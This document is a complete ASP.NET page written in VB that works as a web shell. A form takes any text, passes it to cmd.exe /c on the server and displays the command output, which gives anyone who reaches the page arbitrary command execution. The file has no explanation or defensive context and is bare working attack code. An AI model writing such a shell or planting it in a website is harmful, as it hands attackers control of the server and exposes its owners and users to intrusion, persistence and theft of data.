<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Protected Sub RunCmd(ByVal sender As Object, ByVal e As EventArgs)
    Dim p As New Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & CmdBox.Text
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    OutLbl.Text = "<pre>" & Server.HtmlEncode(p.StandardOutput.ReadToEnd()) & "</pre>"
End Sub
</script>
<html><body><form runat="server">
<asp:TextBox ID="CmdBox" runat="server" Columns="80" />
<asp:Button ID="Btn" runat="server" Text="Run" OnClick="RunCmd" />
<asp:Label ID="OutLbl" runat="server" />
</form></body></html>
